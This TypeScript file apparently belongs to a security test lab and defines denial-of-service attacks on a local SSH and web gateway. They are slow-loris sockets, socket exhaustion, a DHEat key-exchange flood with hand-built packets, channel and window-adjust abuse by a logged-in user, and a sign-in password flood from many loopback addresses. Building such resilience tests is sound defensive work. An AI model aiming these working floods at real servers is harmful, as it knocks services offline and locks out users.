/**
 * What the attackers do: each attack is one loop that goes on until its process is ended, at the pace in its name.
 * They come from many addresses of the loopback, as a botnet would, and never from the victim's.
 */
import { connect } from "node:net";
import type { Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import { setTimeout as sleep } from "node:timers/promises";
import { SshWriter } from "@teleport-access/sshcert";
import { MSG } from "../../packages/ssh/src/messages.ts";
import { message, RawPeer } from "../../packages/ssh/src/testing/raw-peer.ts";
import type { Identity } from "../lab/estate.ts";

export interface AttackPorts {
  readonly ssh: number;
  readonly web: number;
}

export interface AttackTools {
  readonly ports: AttackPorts;
  /** Of a person who may log in, for the attacks from inside. */
  readonly identity: Identity;
}

export interface Attack {
  readonly name: string;
  readonly title: string;
  run(tools: AttackTools): Promise<void>;
}

/** A socket from one of `addresses` addresses; errors are the attacker's own business. */
function dial(port: number, serial: number, addresses: number): Socket {
  const host = serial % addresses;
  const localAddress = `127.9.${Math.floor(host / 250)}.${(host % 250) + 1}`;
  const socket = connect({ host: "127.0.0.1", port, localAddress, noDelay: true });
  socket.on("error", () => undefined);
  return socket;
}

/** Keeps `count` sockets open; a new one takes the place of one that was ended, at most `perSecond` of them. */
async function keepOpen(
  { ports }: AttackTools,
  [count, addresses, perSecond]: readonly [number, number, number],
  act: (socket: Socket) => void,
): Promise<never> {
  const open = new Set<Socket>();
  for (let serial = 0; ; serial += 1) {
    while (open.size >= count) await sleep(20);
    const socket = dial(ports.ssh, serial, addresses);
    open.add(socket);
    socket.on("close", () => open.delete(socket));
    socket.resume();
    act(socket);
    await sleep(1000 / perSecond);
  }
}

/** One byte of greeting a second: the most that a stranger may say before it matters is far away. */
function drip(socket: Socket): void {
  const timer = setInterval(() => socket.write("x"), 1000);
  socket.write("SSH-2.0-");
  socket.on("close", () => {
    clearInterval(timer);
  });
}

function packet(payload: Buffer): Buffer {
  const over = 8 - ((payload.length + 5) % 8);
  const padding = over < 4 ? over + 8 : over;
  const head = new SshWriter().u32(payload.length + padding + 1).u8(padding);
  return head.raw(payload).raw(Buffer.alloc(padding)).done();
}

/** What makes a server do a whole key exchange and sign, and costs its sender nothing (DHEat, CVE-2002-20001). */
function cheapHello(): Buffer {
  const init = message(20).raw(Buffer.alloc(16, 7));
  const lists = ["curve25519-sha256", "ssh-ed25519", "aes128-gcm@openssh.com", "aes128-gcm@openssh.com"];
  for (const list of [...lists, "hmac-sha2-256", "hmac-sha2-256", "none", "none", "", ""]) init.string(list);
  const exchange = message(30).string(Buffer.alloc(32, 9)).done();
  return Buffer.concat([Buffer.from("SSH-2.0-x\r\n"), packet(init.u8(0).u32(0).done()), packet(exchange)]);
}

async function handshakeFlood({ ports }: AttackTools, addresses: number, perSecond: number): Promise<never> {
  const hello = cheapHello();
  for (let serial = 0; ; serial += 1) {
    const socket = dial(ports.ssh, serial, addresses);
    socket.write(hello);
    socket.once("data", () => undefined);
    setTimeout(() => socket.destroy(), 500);
    await sleep(1000 / perSecond);
  }
}

/** Somebody who may log in, and does. */
async function inside({ ports, identity }: AttackTools): Promise<RawPeer> {
  const peer = new RawPeer(dial(ports.ssh, 0, 1), {
    kind: "client",
    hostKeyAlgorithms: ["ssh-ed25519"],
    acceptHostKey: () => true,
    verifyHostSignature: () => true,
  });
  await peer.authenticate("mallory", identity);
  return peer;
}

const TARGET = new SshWriter().string("web-1.prod").u32(22).string("127.0.0.1").u32(1).done();
const NOWHERE = new SshWriter().string("metadata.prod").u32(80).string("127.0.0.1").u32(1).done();

function open(sender: number, target: Buffer, window = 1000): Buffer {
  const head = message(MSG.CHANNEL_OPEN).string("direct-tcpip").u32(sender).u32(window);
  return head.u32(32_768).raw(target).done();
}

/** Channels that are refused, as many as the connection takes. */
async function channelFlood(tools: AttackTools): Promise<never> {
  for (;;) {
    const peer = await inside(tools);
    while (!peer.transport.finished) {
      for (let i = 0; i < 50; i += 1) peer.transport.send(open(i, NOWHERE));
      if (!peer.transport.canSend()) await sleep(1);
      peer.received.length = 0;
      await new Promise(setImmediate);
    }
  }
}

/**
 * Channels with the largest window there is whose answers nobody reads, and grown further. Few of them: with many it is
 * the target's sshd, which makes processes for each, that takes the machine.
 */
async function windowLies(tools: AttackTools): Promise<never> {
  for (;;) {
    const peer = await inside(tools);
    for (let i = 0; i < 4; i += 1) peer.transport.send(open(i, TARGET, 0xffff_ffff));
    await sleep(500);
    peer.transport.wire.pause();
    for (let i = 0; i < 20 && !peer.transport.finished; i += 1) {
      peer.send(
        message(MSG.CHANNEL_WINDOW_ADJUST)
          .u32(i % 4)
          .u32(0xffff_ffff),
      );
      await sleep(50);
    }
    peer.transport.destroy();
  }
}

const WRONG = JSON.stringify({ user: "alice", password: "wrong wrong wrong", code: "123456" });
const SIGN_IN = [
  "POST /api/v1/sign-in HTTP/1.1",
  "Host: 127.0.0.1:8443",
  "Origin: https://127.0.0.1:8443",
  "Content-Type: application/json",
  `Content-Length: ${WRONG.length}`,
  "Connection: close",
  "",
  WRONG,
].join("\r\n");

/** A new TLS connection for each wrong password. */
async function webFlood({ ports }: AttackTools, addresses: number, perSecond: number): Promise<never> {
  for (let serial = 0; ; serial += 1) {
    const socket = connectTls({ socket: dial(ports.web, serial, addresses), rejectUnauthorized: false });
    socket.on("error", () => undefined).resume();
    socket.end(SIGN_IN);
    setTimeout(() => socket.destroy(), 2000);
    await sleep(1000 / perSecond);
  }
}

export const ATTACKS: readonly Attack[] = [
  {
    name: "slow-loris",
    title: "400 sockets, a byte a second",
    run: (tools) => keepOpen(tools, [400, 100, 100], drip),
  },
  {
    name: "sockets",
    title: "1,000 silent sockets",
    run: (tools) => keepOpen(tools, [1000, 200, 100], () => undefined),
  },
  {
    name: "dheat",
    title: "100 cheap key exchanges a second",
    run: (tools) => handshakeFlood(tools, 50, 100),
  },
  { name: "channels", title: "channel opens without end", run: channelFlood },
  { name: "windows", title: "window lies", run: windowLies },
  { name: "web", title: "100 wrong passwords a second", run: (tools) => webFlood(tools, 100, 100) },
];
